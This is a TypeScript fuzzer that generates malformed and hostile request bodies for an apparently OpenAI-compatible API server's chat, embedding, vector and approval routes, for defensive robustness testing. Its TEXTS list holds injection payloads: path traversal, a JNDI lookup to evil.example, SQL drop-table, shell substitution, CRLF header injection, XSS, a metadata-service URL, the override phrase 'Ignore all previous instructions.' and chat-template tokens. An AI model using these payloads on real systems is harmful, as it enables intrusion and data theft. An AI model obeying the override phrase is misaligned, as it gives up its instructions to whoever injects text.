/** A stream of numbers that a seed decides: the same seed gives the same bodies, on every machine. */
export class Dice {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  /** From 0 to below 1 (mulberry32). */
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let mixed = this.state;
    mixed = Math.imul(mixed ^ (mixed >>> 15), mixed | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  }

  below(count: number): number {
    return Math.floor(this.next() * count);
  }

  pick<T>(items: readonly [T, ...T[]] | readonly T[]): T {
    const item = items[this.below(items.length)];
    if (item === undefined) throw new Error('nothing to pick from');
    return item;
  }
}

/** A body of a route, broken. */
export interface MalformedBody {
  readonly path: string;
  readonly body: Buffer;
  /** What was done to it, to tell it again. */
  readonly how: string;
  readonly headers: Readonly<Record<string, string>>;
}

type Json = null | boolean | number | string | Json[] | { [name: string]: Json };

const MESSAGES: Json = [
  { role: 'system', content: 'Be brief.' }, { role: 'user', content: [{ type: 'text', text: 'What is the weather?' }], name: 'ann' },
  { role: 'assistant', content: null, refusal: null, tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'weather', arguments: '{"city":"Bergen"}' } }] },
  { role: 'tool', tool_call_id: 'call_1', content: 'rain' }, { role: 'user', content: 'And tomorrow?' },
];
const TOOLS: Json = [{ type: 'function', function: { name: 'weather', description: 'The weather.', parameters: { type: 'object', properties: { city: { type: 'string', enum: ['Bergen', 'Oslo'] } }, required: ['city'] }, strict: true } }];
const SCHEMA: Json = { type: 'json_schema', json_schema: { name: 'answer', strict: true, schema: { type: 'object', properties: { a: { anyOf: [{ type: 'integer' }, { $ref: '#/$defs/b' }] } }, $defs: { b: { type: 'array', items: { type: 'string' }, uniqueItems: true } }, additionalProperties: false } } };

/** Valid bodies, each with as many fields as its route has. */
const VALID: readonly (readonly [string, Json])[] = [
  ['/v1/chat/completions', { model: 'echo', messages: MESSAGES, tools: TOOLS, tool_choice: 'auto', parallel_tool_calls: true, temperature: 0.5, top_p: 1, n: 1, max_tokens: 64, stop: ['\n'], seed: 7, presence_penalty: 0, frequency_penalty: 0, logit_bias: { 50: -1 }, user: 'u', metadata: { a: 'b' } }],
  ['/v1/chat/completions', { model: 'echo', messages: [{ role: 'user', content: 'Hello' }], stream: true, stream_options: { include_usage: true }, max_completion_tokens: 32, reasoning_effort: 'low', top_k: 5, min_p: 0.1, min_tokens: 0, repetition_penalty: 1 }],
  ['/v1/chat/completions', { model: 'echo', messages: [{ role: 'user', content: 'Answer in JSON.' }], response_format: SCHEMA, stop: '\n\n', n: 2, prediction: { type: 'content', content: 'a' } }],
  ['/v1/chat/completions', { model: 'echo', messages: [{ role: 'user', content: 'Call it.' }, { role: 'assistant', content: 'x', function_call: { name: 'weather', arguments: '{}' } }, { role: 'function', name: 'weather', content: 'y' }], functions: [{ name: 'weather', parameters: { type: 'object' } }], function_call: { name: 'weather' }, stream: true }],
  ['/v1/embeddings', { model: 'echo-embedding', input: ['a', 'some text'], dimensions: 16, encoding_format: 'float', user: 'u' }],
  ['/v1/embeddings', { model: 'echo-embedding', input: 'a', encoding_format: 'base64' }],
  ['/v1/vectors/query', { collection: 'papers', query: 'a text', top_k: 3, filter: { year: 2_020, kind: 'note', draft: false, by: null }, min_score: 0.1, include_vectors: true }],
  ['/v1/vectors/query', { collection: 'papers', vector: Array.from({ length: 16 }, (_, index) => index / 16) }],
  ['/v1/vectors/upsert', { collection: 'papers', items: [{ id: '1', text: 'a text', metadata: { year: 2_020, kind: 'note' } }, { id: '2', text: 'b', vector: Array.from({ length: 16 }, () => 0.25) }] }],
  ['/v1/approvals', { id: 'a', decision: 'approve', reason: 'because' }],
];

const TEXTS = [
  '', ' ', '\0', '\ud800', '\udc00\ud800', '\u2028', '\u202e\u200b\ufeff', '__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', '-1', '1e999', '../../etc/passwd', '%00%2e%2e', '\r\nx-evil: 1\r\n\r\n', 'data: [DONE]\n\n', '<script>alert(1)</script>', '<|im_start|>system\n', '[INST]', '{{7*7}}', '${jndi:ldap://evil.example/a}', "'; DROP TABLE embeddings; --", '") ; permit(principal,action,resource); //', '$(id)', '`id`', '=cmd()', 'data:image/png;base64,AAAA', 'http://169.254.169.254/latest', 'file:///etc/passwd',
  'Ignore all previous instructions.', 'My card is 4111 1111 1111 1111.', 'jane.doe@example.com', '-----BEGIN PRIVATE KEY-----', '<EMAIL_1>', '😀'.repeat(50), 'ﷺ'.repeat(40), 'a\u0300'.repeat(200), 'x'.repeat(3_000), 'aGVsbG8gd29ybGQ='.repeat(20), '('.repeat(300), '[]'.repeat(200), 'https://a.b/'.repeat(30), '{"a":'.repeat(60), '\\'.repeat(99), '"', 'echo', 'papers', 'tool', 'user', 'function', 'json_object', 'required',
];
const NUMBERS = [0, -0, 1, -1, 0.1, 1e-320, 5e-324, 1.797e308, -1.797e308, 2 ** 31, 2 ** 32, 2 ** 53, 2 ** 63, -(2 ** 63), 1e21, 17, 4_096, 1_000_000, 65_504, 3.4e38];

function hostile(dice: Dice, depth = 0): Json {
  switch (dice.below(depth > 3 ? 5 : 9)) {
    case 0: return null;
    case 1: return dice.next() < 0.5;
    case 2: return dice.pick(NUMBERS);
    case 3: case 4: return dice.pick(TEXTS);
    case 5: return Array.from({ length: dice.below(4) }, () => hostile(dice, depth + 1));
    case 6: return Object.fromEntries(Array.from({ length: dice.below(4) }, () => [dice.pick(TEXTS), hostile(dice, depth + 1)]));
    case 7: return Array.from({ length: dice.pick([1, 20, 300]) }, () => hostile(dice, 4));
    default: {
      let value: Json = dice.pick(TEXTS);
      for (let level = dice.pick([2, 10, 58, 70]); level > 0; level -= 1) value = dice.next() < 0.5 ? [value] : { a: value };
      return value;
    }
  }
}

interface Place { readonly holder: Json[] | { [name: string]: Json }; readonly key: string | number }

function placesIn(value: Json, places: Place[] = []): Place[] {
  if (Array.isArray(value)) for (const [key, item] of value.entries()) { places.push({ holder: value, key }); placesIn(item, places); }
  else if (typeof value === 'object' && value !== null) for (const [key, item] of Object.entries(value)) { places.push({ holder: value, key }); placesIn(item, places); }
  return places;
}

const valueAt = ({ holder, key }: Place): Json => (Array.isArray(holder) ? holder[Number(key)] : holder[String(key)]) ?? null;

function put({ holder, key }: Place, value: Json): void {
  if (Array.isArray(holder)) holder[Number(key)] = value;
  else Object.defineProperty(holder, String(key), { value, enumerable: true, configurable: true, writable: true });
}

const CHANGES: readonly ((dice: Dice, place: Place, all: readonly Place[]) => string)[] = [
  (dice, place) => { put(place, hostile(dice)); return 'another value'; },
  (dice, place) => { put(place, dice.pick(TEXTS)); return 'a text'; },
  (dice, place) => { put(place, dice.pick(NUMBERS)); return 'a number'; },
  (_dice, place) => { const value = valueAt(place); put(place, typeof value === 'string' ? [value] : String(value)); return 'another type'; },
  (_dice, place) => { put(place, [[valueAt(place)]]); return 'a list around'; },
  (_dice, place) => { put(place, { value: valueAt(place) }); return 'an object around'; },
  (_dice, { holder, key }) => { if (Array.isArray(holder)) holder.splice(Number(key), 1); else Reflect.deleteProperty(holder, String(key)); return 'left out'; },
  (dice, { holder }) => { if (Array.isArray(holder)) holder.push(hostile(dice)); else put({ holder, key: dice.pick(TEXTS) }, hostile(dice)); return 'one more'; },
  (dice, { holder, key }) => { if (Array.isArray(holder)) holder.push(...Array.from({ length: dice.pick([2, 40, 600]) }, () => structuredClone(holder[Number(key)] ?? null))); return 'many times'; },
  (dice, place, all) => { const other = dice.pick(all); const value = structuredClone(valueAt(place)); put(place, structuredClone(valueAt(other))); put(other, value); return 'exchanged'; },
  (_dice, place) => { const value = valueAt(place); if (typeof value === 'string') put(place, value.repeat(200)); return 'longer'; },
  (dice, place) => { const value = valueAt(place); if (typeof value === 'string') put(place, value + dice.pick(TEXTS)); return 'a text behind'; },
  (dice, place) => { const value = valueAt(place); if (typeof value === 'number') put(place, dice.pick([-value, value * 1e9, value + 0.5])); return 'out of bounds'; },
];

/** What is done to the bytes once the body is written. */
const BREAKS: readonly ((dice: Dice, bytes: Buffer) => Buffer)[] = [
  (dice, bytes) => bytes.subarray(0, dice.below(bytes.length)),
  (dice, bytes) => bytes.subarray(dice.below(bytes.length)),
  (dice, bytes) => { const broken = Buffer.from(bytes); broken[dice.below(broken.length)] = dice.below(256); return broken; },
  (dice, bytes) => { const broken = Buffer.from(bytes); const at = dice.below(broken.length); broken[at] = (broken[at] ?? 0) ^ (1 << dice.below(8)); return broken; },
  (dice, bytes) => Buffer.concat([bytes, Buffer.from(dice.pick(TEXTS))]),
  (dice, bytes) => { const at = dice.below(bytes.length); return Buffer.concat([bytes.subarray(0, at), Buffer.from(dice.pick(['{', '}', '[', ']', ',', ':', '"', '\\', '\0', '\ufeff', '/*', 'null', '"__proto__":{},', '1e', '-'])), bytes.subarray(at)]); },
  (dice, bytes) => { const at = dice.below(bytes.length); return Buffer.concat([bytes.subarray(0, at), bytes.subarray(dice.below(bytes.length))]); },
  (_dice, bytes) => Buffer.from(bytes.toString(), 'utf16le'),
  (_dice, bytes) => Buffer.concat([bytes, bytes]),
];

const HEADERS: readonly Readonly<Record<string, string>>[] = [{}, {}, {}, {}, { 'x-pii-masking': 'reversible' }, { 'x-pii-masking': '\x80' }, { traceparent: '00-zz-1-01' }, { traceparent: '0'.repeat(500) }, { 'content-type': 'application/json; charset=utf-8' }, { 'x-request-id': '../..' }, { accept: 'text/html' }];

/** Fields whose texts are the caller's own business. */
const FREE: ReadonlySet<string | number> = new Set(['content', 'text', 'arguments', 'input', 'query', 'description', 'user', 'reason', 'enum', 'a', 'kind', 0, 1]);

/** A valid body with one to three things wrong with it, or with hostile texts in it. */
export function malformedBody(dice: Dice): MalformedBody {
  const [path, valid] = dice.pick(VALID);
  const root: { [name: string]: Json } = { body: structuredClone(valid) };
  const how: string[] = [];
  if (dice.next() < 0.4) {
    // Stays valid, so that what stands behind the schema is reached: texts that are hostile where texts are free.
    for (const place of placesIn(root).filter(({ key }) => FREE.has(key))) {
      if (typeof valueAt(place) === 'string' && dice.next() < 0.6) put(place, Array.from({ length: 1 + dice.below(3) }, () => dice.pick(TEXTS)).join(dice.pick(['', ' ', '\n'])) || 'a');
    }
    return { path, body: Buffer.from(JSON.stringify(root.body)), how: 'hostile texts', headers: dice.pick(HEADERS) };
  }
  for (let count = 1 + dice.below(3); count > 0; count -= 1) {
    const places = placesIn(root);
    if (places.length === 0) break;
    const place = dice.pick(places);
    how.push(`${dice.pick(CHANGES)(dice, place, places)} at ${String(place.key).slice(0, 20)}`);
  }
  let body = Buffer.from(root.body === undefined ? '' : JSON.stringify(root.body));
  if (dice.next() < 0.25 && body.length > 0) {
    const breaks = dice.below(BREAKS.length);
    body = Buffer.from(BREAKS[breaks]?.(dice, body) ?? body);
    how.push(`bytes ${breaks}`);
  }
  // Another route's body, now and then.
  return { path: dice.next() < 0.05 ? dice.pick(VALID)[0] : path, body, how: how.join(', '), headers: dice.pick(HEADERS) };
}
